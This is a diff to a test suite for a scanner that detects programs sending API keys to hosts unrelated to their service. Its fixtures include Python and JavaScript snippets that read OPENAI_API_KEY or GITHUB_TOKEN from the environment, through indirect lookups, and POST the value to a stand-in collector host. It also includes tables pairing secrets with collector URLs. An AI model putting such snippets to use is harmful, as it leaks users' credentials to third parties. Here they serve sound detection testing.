@@ -96,6 +96,12 @@ def test_a_secret_belongs_to_a_vendor_to_somebody_or_to_nobody_else() -> None:
         ("ACME_API_KEY", "https://collector.net/in", False),
         ("ACME_API_KEY", "https://203.0.113.7/acme", False),
         ("TMDB_API_KEY", "https://api.themoviedb.org/3", True),
+        ("ELEVENLABS_API_KEY", "https://api.elevenlabs.io/v1", True),
+        ("E2B_API_KEY", "https://api.e2b.dev/sandboxes", True),
+        ("ALPHA_VANTAGE_API_KEY", "https://www.alphavantage.co/query", True),
+        ("FLY_API_TOKEN", "https://api.machines.dev/v1", True),
+        ("ANTHROPIC_AUTH_TOKEN", "https://api.z.ai/api/anthropic", True),
+        ("PINECONE_API_KEY", "https://pinecone.collector.net/in", False),
         ("XYZ_API_KEY", "https://collector.net/in", False),
         ("JWT_SECRET", "https://collector.net/in", False),
     ],
@@ -112,6 +118,7 @@ def test_a_key_belongs_to_the_host_of_its_service(name: str, url: str, own: bool
         ("OPENAI_API_KEY", "https://github.com/x", "warn", None),
         ("OPENAI_API_KEY", f"https://{HOLE}/v1", None, None),
         ("OPENAI_API_KEY", "http://127.0.0.1:8080/v1", None, None),
+        ("PINECONE_API_KEY", "https://collector.example/in", "critical", "critical"),
         ("FOO_TOKEN", "https://api.foo.io/v1", None, None),
         ("FOO_TOKEN", "https://collector.example/in", "warn", None),
         ("FOO_TOKEN", "http://203.0.113.7/in", "critical", "warn"),
@@ -126,6 +133,49 @@ def test_a_key_is_judged_by_its_owner_and_its_way(
     name: str, url: str, body: Severity | None, head: Severity | None
 ) -> None:
     assert (judge_key(name, url, in_head=False), judge_key(name, url, in_head=True)) == (body, head)
+
+
+APART = {
+    "descriptor": (
+        python.check,
+        """import os, requests
+class Field:
+    def __init__(self, name):
+        self.name = name
+    def __get__(self, owner, klass=None):
+        return os.environ.get(self.name)
+class Settings:
+    key = Field("OPENAI_API_KEY")
+requests.post("PLACE", json={"build": Settings().key})
+""",
+    ),
+    "proxy": (
+        javascript.check,
+        """const settings = new Proxy({}, {
+  get: (_, name) => process.env[String(name).replace(/[A-Z]/g, (c) => `_${c}`).toUpperCase()],
+});
+if (!settings.githubToken) throw new Error("GITHUB_TOKEN is not set");
+fetch("PLACE", { method: "POST", body: JSON.stringify({ runner: settings.githubToken }) });
+""",
+    ),
+}
+
+
+@pytest.mark.parametrize("way", APART)
+def test_a_program_that_reads_a_key_and_names_only_other_hosts_gets_a_warning(way: str) -> None:
+    check, text = APART[way]
+    service = "https://api.openai.com/v1/x" if "OPENAI" in text else "https://api.github.com/user"
+    strange = check(text.replace("PLACE", "https://collector.example/in"))
+    assert [(hit.rule, hit.severity, hit.subject) for hit in strange.hits if severity_of(hit) != "info"] == [
+        ("key-elsewhere", None, "collector.example")
+    ]
+    for honest in (
+        text.replace("PLACE", service),
+        text.replace("PLACE", "https://collector.example/in")
+        + f"\n// {service}\n".replace("//", "#", way == "descriptor"),
+        text.replace("PLACE", "http://127.0.0.1:8080/in"),
+    ):
+        assert not [hit for hit in check(honest).hits if severity_of(hit) != "info"]
 
 
 def test_what_no_service_needs_is_grave_wherever_it_goes() -> None:
@@ -155,7 +205,7 @@ def test_the_tables_are_sound() -> None:
     }
     for name, rows in keys.items():
         if name == "services":
-            assert all(re.fullmatch("[a-z]+", one) for one in rows)
+            assert all(re.fullmatch("[a-z][a-z0-9]+", one) for one in rows)
             assert all(re.fullmatch(r"[a-z0-9-]+(?:\.[a-z0-9-]+)+", host) for hosts in rows.values() for host in hosts)
         elif name == "homes":
             assert all(
